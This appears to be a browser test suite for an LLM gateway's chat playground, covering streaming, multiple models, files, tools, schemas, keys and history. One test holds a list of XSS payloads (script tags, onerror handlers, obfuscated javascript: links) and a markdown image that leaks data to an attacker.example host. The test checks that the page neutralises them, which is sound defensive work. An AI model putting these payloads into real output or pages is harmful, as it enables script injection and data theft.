// The playground for chats in a real browser: answers that arrive, several models, files, tools, schemas, and texts of hostile models.

import { expect, test } from "bun:test";
import {
  answer,
  chatChunk,
  doneText,
  errorBody,
  event,
  hang,
  httpChunk,
  lastHttpChunk,
  stream,
  streamHead,
  until,
} from "../support/answers.ts";
import { sharedBrowser, type TestPage, waitForCopied } from "../support/browser.ts";
import {
  checkAppearances,
  type DashboardOptions,
  fitsWidth,
  openDashboard,
  sendMessage as send,
  unexpectedProblems,
  waitForCount,
} from "../support/dashboard-page.ts";
import { sharedGateway } from "../support/test-gateway.ts";
import { waitFor } from "../support/wait.ts";

const gateway = await sharedGateway();
const { vendor } = gateway;
const browser = await sharedBrowser();

/** A picture of one pixel. */
const picture = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

interface OpenOptions extends DashboardOptions {
  readonly models?: readonly string[];
  readonly query?: string;
}

async function openPlayground({
  models = ["sandbox/echo"],
  query = "",
  ...options
}: OpenOptions = {}): Promise<TestPage> {
  const address = new URLSearchParams(query);
  for (const model of models) address.append("model", model);
  const opened = await openDashboard(browser, gateway, `/playground?${address}`, options);
  await opened.page.getByLabel("Message", { exact: true }).waitFor();
  return opened;
}

function answerOf({ page }: TestPage, model: string) {
  return page.getByRole("article", { name: `Answer of ${model}`, exact: true }).last();
}

/** Waits until the browser has stored the chat. */
async function sendAndKeep(opened: TestPage, text: string): Promise<void> {
  await send(opened, text);
  await answerOf(opened, "sandbox/echo").locator(".figures").waitFor();
  await opened.page.waitForURL(/chat=/);
}

test("an answer is shown while it arrives, with its time, tokens and cost at the end", async () => {
  const { promise: rest, resolve: release } = Promise.withResolvers<void>();
  vendor.on("gated", [
    streamHead(),
    event(chatChunk({ role: "assistant", content: "The first half" })),
    until(rest),
    event(chatChunk({ content: " and **the second**." })),
    event(chatChunk({}, "stop")),
    event({ ...chatChunk({}), choices: [], usage: { prompt_tokens: 7, completion_tokens: 9, total_tokens: 16 } }),
    httpChunk(doneText),
    lastHttpChunk,
  ]);
  await using opened = await openPlayground({ models: ["mock/gated"] });
  await send(opened, "Begin");
  const article = answerOf(opened, "mock/gated");
  await article.getByText("The first half", { exact: true }).waitFor();
  expect(await article.getAttribute("aria-busy")).toBe("true");
  release();
  await article.locator("strong", { hasText: "the second" }).waitFor();
  await article.getByText("7 → 9").waitFor();
  await opened.page.getByRole("status").getByText("The answer is complete").waitFor();
  expect(unexpectedProblems(opened)).toEqual([]);
});

test("two models answer side by side, each with its figures, and the request can be copied", async () => {
  await using opened = await openPlayground({ models: ["sandbox/echo", "sandbox/chat"] });
  await send(opened, "Good morning");
  await answerOf(opened, "sandbox/echo").getByText("You said: Good morning").waitFor();
  await answerOf(opened, "sandbox/chat").getByText("Hello from the sandbox").waitFor();
  for (const model of ["sandbox/echo", "sandbox/chat"]) {
    const figures = await answerOf(opened, model).locator(".figures").innerText();
    expect(figures).toMatch(/First token\s+\d+.*Total\s+\d+.*Tokens\s+\d+ → \d+.*Cost\s+\$0\.00/s);
  }
  const boxes = await Promise.all(
    ["sandbox/echo", "sandbox/chat"].map((model) => answerOf(opened, model).boundingBox()),
  );
  expect(boxes[0]?.y).toBe(boxes[1]?.y);
  await opened.page.getByRole("button", { name: "Copy as: the request to sandbox/echo" }).click();
  await opened.page.getByText("Python", { exact: true }).click();
  await opened.page.getByRole("dialog").getByRole("button", { name: "Copy", exact: true }).click();
  const copied = await waitForCopied(opened, '"content": "Good morning"');
  expect(copied).not.toContain("sk-sy-sandbox");
  expect(copied).toContain('os.environ["SWITCHYARD_KEY"]');
});

test("images and files are sent with the message", async () => {
  await using opened = await openPlayground();
  const { page } = opened;
  const chooser = page.waitForEvent("filechooser");
  await page.getByRole("button", { name: "Attach files" }).click();
  await (await chooser).setFiles([
    { name: "pixel.png", mimeType: "image/png", buffer: picture },
    { name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("Notes") },
  ]);
  await page.getByText("pixel.png").waitFor();
  await page.getByText("notes.txt").waitFor();
  await send(opened, "What is this?");
  await answerOf(opened, "sandbox/echo").getByText("(I saw 1 image and 1 file.)").waitFor();
  // In the page as well, and pasted files and dropped ones take the same way.
  await waitForCount(page.locator(".question img"), 1);
  await page.evaluate(`{
    const files = new DataTransfer();
    files.items.add(new File(["dropped"], "dropped.txt", { type: "text/plain" }));
    document.querySelector(".composer").dispatchEvent(new DragEvent("drop", { dataTransfer: files, bubbles: true, cancelable: true }));
    const pasted = new DataTransfer();
    pasted.items.add(new File(["pasted"], "pasted.txt", { type: "text/plain" }));
    document.querySelector(".composer textarea").dispatchEvent(new ClipboardEvent("paste", { clipboardData: pasted, bubbles: true }));
  }`);
  await page.getByText("dropped.txt").waitFor();
  await page.getByText("pasted.txt").waitFor();
  await page.getByRole("button", { name: "Remove dropped.txt" }).click();
  await send(opened, "");
  await answerOf(opened, "sandbox/echo").getByText("(I saw 1 file.)").waitFor();
  expect(unexpectedProblems(opened)).toEqual([]);
});

test("a call of a tool is shown, and the typed result continues the answer", async () => {
  await using opened = await openPlayground();
  const { page } = opened;
  await page.getByRole("switch", { name: "Tools" }).click();
  await send(opened, "How is the weather?");
  const article = answerOf(opened, "sandbox/echo");
  await article.getByLabel("Arguments of get_weather").getByText('"Vienna"').waitFor();
  await article.getByRole("textbox", { name: "Result of get_weather" }).fill("21 degrees");
  await article.getByRole("button", { name: "Send the result" }).click();
  await article.getByText("get_weather answered: 21 degrees").waitFor();
  // The next message goes on from there.
  await page.getByRole("switch", { name: "Tools" }).click();
  await send(opened, "Thank you");
  await answerOf(opened, "sandbox/echo").getByText("You said: Thank you").waitFor();
});

test("structured output is shown as JSON and checked against the schema", async () => {
  vendor.on("unruly", stream(['{"summary": 5, "sentiment": "positive", "topics": []}']));
  await using opened = await openPlayground({ models: ["sandbox/echo", "mock/unruly"] });
  await opened.page.getByRole("switch", { name: "Structured output" }).click();
  await send(opened, "Judge this");
  await answerOf(opened, "sandbox/echo").getByText("Follows the schema", { exact: true }).waitFor();
  const unruly = answerOf(opened, "mock/unruly");
  await unruly.getByText("Does not follow the schema").waitFor();
  await unruly.getByText(/^summary does not have the form/).waitFor();
  await unruly.getByLabel("Structured answer").getByText('"sentiment": "positive"').waitFor();
});

test("JSON that cannot be read is said at its field, and nothing is sent", async () => {
  await using opened = await openPlayground();
  await opened.page.getByRole("switch", { name: "Tools" }).click();
  await opened.page.getByRole("textbox", { name: "Tools as JSON" }).fill("[{]");
  await send(opened, "Hello");
  await opened.page.getByText("Tools should be a JSON list with at least one tool.").first().waitFor();
  expect(await opened.page.getByRole("article").count()).toBe(0);
});

test("reasoning is shown apart from the answer", async () => {
  await using opened = await openPlayground({ models: ["sandbox/reasoning"] });
  await send(opened, "Think");
  const article = answerOf(opened, "sandbox/reasoning");
  await article.locator(".figures").waitFor();
  // Closed once the answer is there.
  const reasoning = article.getByRole("button", { name: /^Reasoning/ });
  expect(await reasoning.getAttribute("aria-expanded")).toBe("false");
  expect(await article.getByText("The user has written: Think").count()).toBe(0);
  await reasoning.click();
  await article.getByText("The user has written: Think").waitFor();
  expect(await article.locator(".markdown").innerText()).toBe("You said: Think");
});

test("an answer is stopped, keeps what it has, and the provider's stream ends", async () => {
  vendor.on("endless", [streamHead(), event(chatChunk({ role: "assistant", content: "So far" })), hang]);
  await using opened = await openPlayground({ models: ["mock/endless"] });
  await send(opened, "Never end");
  const article = answerOf(opened, "mock/endless");
  await article.getByText("So far").waitFor();
  await opened.page.getByRole("button", { name: "Stop" }).click();
  await article.getByText("stopped", { exact: true }).waitFor();
  await article.getByText("So far").waitFor();
  await vendor.waitFor("the gateway to leave", (requests) =>
    requests.some((one) => one.model === "endless" && one.leftAt !== null),
  );
});

test("errors are shown with the id of the request, and another attempt can be made", async () => {
  vendor.on("failing", answer(400, errorBody("the vendor's reason")));
  await using opened = await openPlayground({ models: ["mock/failing", "sandbox/error-in-stream"] });
  await send(opened, "Fail");
  const failed = answerOf(opened, "mock/failing").getByRole("alert");
  await failed.waitFor();
  expect(await failed.innerText()).toMatch(/the vendor's reason.*Request \S+/s);
  const broken = answerOf(opened, "sandbox/error-in-stream").getByRole("alert");
  await broken.waitFor();
  expect(await broken.innerText()).toMatch(/Request \S+/);
  vendor.on("failing", stream(["It works now"]));
  await failed.getByRole("button", { name: "Try again" }).click();
  await answerOf(opened, "mock/failing").getByText("It works now").waitFor();
});

test("a chat survives a reload, and is renamed and deleted in the history", async () => {
  await using opened = await openPlayground();
  const { page } = opened;
  await sendAndKeep(opened, "Remember the heron");
  await page.reload();
  await answerOf(opened, "sandbox/echo").getByText("You said: Remember the heron").waitFor();
  await page.getByRole("button", { name: "New chat" }).click();
  await page.getByText("Ask one model, or several at once").waitFor();
  await page.getByRole("button", { name: "History" }).click();
  await page.getByRole("button", { name: "Rename Remember the heron" }).click();
  await page.getByLabel("New name").fill("About birds");
  await page.keyboard.press("Enter");
  await page.getByRole("button", { name: /^About birds/ }).click();
  await answerOf(opened, "sandbox/echo").getByText("You said: Remember the heron").waitFor();
  await page.getByRole("button", { name: "History" }).click();
  await page.getByRole("button", { name: "Delete About birds" }).click();
  await page.getByText("No chats yet").waitFor();
});

test("another person in the same browser sees neither the chats nor the key", async () => {
  await using opened = await openPlayground();
  const { page } = opened;
  await sendAndKeep(opened, "A secret of the first person");
  const address = page.url();
  const keysBefore = await playgroundKeys();
  expect(keysBefore.filter(({ revoked_at }) => revoked_at === null).length).toBeGreaterThan(0);
  await page.getByRole("button", { name: /SWITCHYARD_ADMIN_KEY/ }).click();
  await page.getByRole("menuitem", { name: "Sign out" }).click();
  await page.getByLabel("Management key").waitFor();
  expect(await page.evaluate("sessionStorage.length")).toBe(0);
  const { key } = (await gateway.manage("POST", "/keys", { name: "second", kind: "management" })) as { key: string };
  await page.getByLabel("Management key").fill(key);
  await page.keyboard.press("Enter");
  await page.getByText("Ask one model, or several at once").waitFor();
  await page.goto(address);
  await page.getByText("Ask one model, or several at once").waitFor();
  await page.getByRole("button", { name: "History" }).click();
  await page.getByText("No chats yet").waitFor();
  expect(await page.getByText("A secret of the first person").count()).toBe(0);
  // The key of the first person was revoked when they signed out.
  await waitFor("the revocation", async () => (await playgroundKeys())[0]?.revoked_at);
});

interface ListedKey {
  readonly id: string;
  readonly name: string;
  readonly revoked_at: string | null;
  readonly expires_at: string | null;
}

/** The newest first. */
async function playgroundKeys(): Promise<ListedKey[]> {
  const { items } = (await gateway.manage("GET", "/keys?limit=1000")) as { items: ListedKey[] };
  return items.filter(({ name }) => name.startsWith("Playground of"));
}

test("the calls of a tab share one key that expires within the hour, also after a reload", async () => {
  const before = (await playgroundKeys()).length;
  await using opened = await openPlayground({ models: ["sandbox/echo", "sandbox/chat", "sandbox/transcript"] });
  await send(opened, "One");
  await opened.page.getByRole("status").getByText("All answers are complete").waitFor();
  await opened.page.reload();
  await send(opened, "Two");
  await answerOf(opened, "sandbox/echo").getByText("You said: Two").waitFor();
  const keys = await playgroundKeys();
  expect(keys.length).toBe(before + 1);
  expect(Date.parse(keys[0]?.expires_at ?? "") - Date.now()).toBeLessThanOrEqual(3_600_000);
});

test("a key that runs out is renewed, and one that was revoked is replaced", async () => {
  await using opened = await openPlayground();
  const { page } = opened;
  await send(opened, "One");
  await answerOf(opened, "sandbox/echo").getByText("You said: One").waitFor();
  const [created] = await playgroundKeys();
  const before = (await playgroundKeys()).length;
  const name = "switchyard-playground-key";
  await page.evaluate(`{
    const stored = JSON.parse(sessionStorage.getItem("${name}"));
    sessionStorage.setItem("${name}", JSON.stringify({ ...stored, expiresAt: Date.now() + 1_000 }));
  }`);
  await send(opened, "Two");
  await answerOf(opened, "sandbox/echo").getByText("You said: Two").waitFor();
  const renewed = (await playgroundKeys()).find(({ id }) => id === created?.id);
  expect(Date.parse(renewed?.expires_at ?? "")).toBeGreaterThan(Date.parse(created?.expires_at ?? ""));
  expect((await playgroundKeys()).length).toBe(before);
  await gateway.manage("DELETE", `/keys/${created?.id}`);
  await send(opened, "Three");
  await answerOf(opened, "sandbox/echo").getByText("You said: Three").waitFor();
  expect((await playgroundKeys()).length).toBe(before + 1);
});

test("a browser keeps the newest fifty chats", async () => {
  await using opened = await openPlayground();
  const { page } = opened;
  await sendAndKeep(opened, "The first");
  // Chats of an earlier time, beside the one that was just kept.
  await page.evaluate(`new Promise((resolve, reject) => {
    const request = indexedDB.open("switchyard-playground", 1);
    request.onerror = reject;
    request.onsuccess = () => {
      const transaction = request.result.transaction("summaries", "readwrite");
      const summaries = transaction.objectStore("summaries");
      summaries.getAll().onsuccess = ({ target }) => {
        const [{ owner }] = target.result;
        for (let at = 1; at <= 60; at++)
          summaries.put({ id: String(at), owner, title: "old " + at, models: [], updatedAt: at, bytes: 1 });
      };
      transaction.oncomplete = () => { request.result.close(); resolve(); };
    };
  })`);
  await send(opened, "Another message");
  await answerOf(opened, "sandbox/echo").getByText("You said: Another message").waitFor();
  await page.getByRole("button", { name: "History" }).click();
  await page.getByRole("button", { name: "Rename old 60" }).waitFor();
  await waitForCount(page.getByRole("button", { name: /^Rename/ }), 50);
});

/** Each would set `window.hostile`, load something, or leave the page if it were taken for markup. */
const hostileText = [
  "<script>window.hostile=1</script>",
  `<img src=x onerror="window.hostile=1">`,
  `Inline <img src=x onerror="window.hostile=1"> and <b onmouseover=window.hostile=1>bold</b>`,
  "[a link](javascript:window.hostile=1)",
  "[encoded](&#106;avascript:window.hostile=1)",
  "[in capitals](JaVaScRiPt:window.hostile=1)",
  "[data](data:text/html,window.hostile=1)",
  '[quoted](https://example.com/"onmouseover="window.hostile=1)',
  "[of this origin](/v3/manage/session)",
  "![picture](https://attacker.example/leak?q=secret)",
  "![picture](/v3/manage/keys)",
  "![svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
  "<javascript:window.hostile=1>",
  "[reference][r]",
  "[r]: javascript:window.hostile=1",
  "[safe](https://example.com/page)",
  "| <svg onload=window.hostile=1> | b |\n|---|---|\n| `<b>` | <iframe srcdoc='<script>parent.hostile=1</script>'> |",
  "```html\n<script>window.hostile=1</script>\n```",
].join("\n\n");

test("texts of models, tools and errors are never taken for markup", async () => {
  const hostile = `<img src=x onerror="window.hostile=1">`;
  vendor.on("hostile", [
    streamHead(),
    event(chatChunk({ role: "assistant", reasoning_content: hostileText })),
    event(chatChunk({ content: hostileText })),
    event(
      chatChunk({
        tool_calls: [{ index: 0, id: hostile, type: "function", function: { name: hostile, arguments: hostileText } }],
      }),
    ),
    event(chatChunk({}, "tool_calls")),
    httpChunk(doneText),
    lastHttpChunk,
  ]);
  vendor.on("hostile-error", answer(400, errorBody(hostileText)));
  // Nested more deeply than any reader gets.
  vendor.on("deep", stream([`${">".repeat(5_000)} the bottom`]));
  await using opened = await openPlayground({
    models: ["mock/hostile", "mock/hostile-error", "mock/deep", `mock/${encodeURIComponent("<img>")}`],
    query: new URLSearchParams({ prompt: hostile }).toString(),
  });
  const { page } = opened;
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));
  expect(await page.getByLabel("Message", { exact: true }).inputValue()).toBe(hostile);
  await page.getByLabel("Message", { exact: true }).focus();
  await page.keyboard.press("Enter");
  const article = answerOf(opened, "mock/hostile");
  await article.getByLabel(`Arguments of ${hostile}`).waitFor();
  await article.getByRole("button", { name: /^Reasoning/ }).click();
  await answerOf(opened, "mock/hostile-error").getByRole("alert").waitFor();
  await answerOf(opened, "mock/deep").getByText("the bottom").waitFor();
  await page.getByRole("button", { name: "History" }).click();
  await page.getByRole("button", { name: `Rename ${hostile}` }).waitFor();
  await page.keyboard.press("Escape");
  const links = await article
    .locator(".markdown a")
    .evaluateAll((elements) => elements.map((element) => [element.getAttribute("href"), element.getAttribute("rel")]));
  expect(links.filter(([href]) => !href?.startsWith("https://example.com/"))).toEqual([]);
  expect(links).toContainEqual(["https://example.com/page", "noopener noreferrer nofollow"]);
  for (const link of await article.locator(".markdown a").all()) await link.hover();
  expect(await article.locator("img, script, iframe, svg[onload]").count()).toBe(0);
  await article.getByText("<script>window.hostile=1</script>").first().waitFor();
  expect(await page.evaluate("window.hostile")).toBeUndefined();
  expect(requests.filter((url) => !url.startsWith(gateway.url))).toEqual([]);
  expect(unexpectedProblems(opened)).toEqual([]);
});

test("from opening the page to the answer with the keyboard alone", async () => {
  await using opened = await openPlayground({ models: [] });
  const { page } = opened;
  // The message has the focus; the model is before it. What is only searched for is not chosen.
  await page.locator("textarea:focus").waitFor();
  await page.getByRole("combobox", { name: "Model" }).focus();
  await page.keyboard.type("nonsense");
  await page.keyboard.press("Escape");
  expect(await page.getByRole("combobox", { name: "Model" }).inputValue()).toBe("sandbox/chat");
  await page.getByRole("combobox", { name: "Model" }).fill("sandbox echo");
  await page.getByRole("option", { name: "sandbox/echo" }).waitFor();
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  await page.waitForURL(/model=sandbox%2Fecho/);
  while (!(await page.evaluate(`document.activeElement.getAttribute("aria-label") === "Message"`)))
    await page.keyboard.press("Tab");
  await page.keyboard.type("Typed");
  await page.keyboard.press("Enter");
  await answerOf(opened, "sandbox/echo").getByText("You said: Typed").waitFor();
});

test("a viewer pastes a key, because the role creates none", async () => {
  const { key } = (await gateway.manage("POST", "/keys", {
    name: "reader",
    kind: "management",
    role: "viewer",
  })) as { key: string };
  await using opened = await openPlayground({ key });
  const { page } = opened;
  await page.getByText("An inference key is needed").waitFor();
  await page.getByLabel("Message", { exact: true }).fill("Hello");
  expect(await page.getByRole("button", { name: "Send" }).isDisabled()).toBe(true);
  await page.getByRole("textbox", { name: "Inference key" }).fill("sk-sy-wrong");
  await page.getByRole("button", { name: "Use key" }).click();
  await send(opened, "Hello");
  await answerOf(opened, "sandbox/echo").getByText("This API key is not known").waitFor();
  await page.getByRole("button", { name: "Remove it" }).click();
  await page.getByRole("textbox", { name: "Inference key" }).fill(await gateway.createKey());
  await page.getByRole("button", { name: "Use key" }).click();
  await page.getByRole("button", { name: "Try again" }).click();
  await answerOf(opened, "sandbox/echo").getByText("You said: Hello").waitFor();
});

test("an operator of a team calls models with a key of that team", async () => {
  await gateway.manage("POST", "/teams", { name: "night-shift" });
  const { key } = (await gateway.manage("POST", "/keys", {
    name: "team operator",
    kind: "management",
    role: "operator",
    team: "night-shift",
  })) as { key: string };
  await using opened = await openPlayground({ key });
  await send(opened, "Hello");
  await answerOf(opened, "sandbox/echo").getByText("You said: Hello").waitFor();
  const { items } = (await gateway.manage("GET", "/keys?team=night-shift")) as { items: ListedKey[] };
  expect(items.map(({ name }) => name)).toContain("Playground of team operator");
});

test("the page is accessible and fits, at 1440 pixels in light and at 390 pixels in dark colours", async () => {
  vendor.on(
    "wide",
    stream([
      `${"x".repeat(400)}\n\n| ${"cell | ".repeat(12)}\n|${"---|".repeat(12)}\n\n\`\`\`\n${"code ".repeat(80)}\n\`\`\``,
    ]),
  );
  await using opened = await openPlayground({ models: ["mock/wide", "sandbox/reasoning", "sandbox/echo"] });
  const { page } = opened;
  await checkAppearances(opened);
  await send(opened, "y".repeat(300));
  await page.getByRole("status").getByText("All answers are complete").waitFor();
  await page.getByRole("switch", { name: "Tools" }).click();
  await page.getByRole("switch", { name: "Structured output" }).click();
  await checkAppearances(opened, "#content");
  // A phone shows the settings in a drawer.
  await opened.setAppearance({ width: 390, theme: "dark" });
  await page.getByRole("button", { name: "Settings" }).click();
  await page.getByRole("textbox", { name: "Tools as JSON" }).waitFor();
  await opened.checkAccessibility();
  expect(await fitsWidth(opened)).toBe(true);
  expect(unexpectedProblems(opened)).toEqual([]);
});
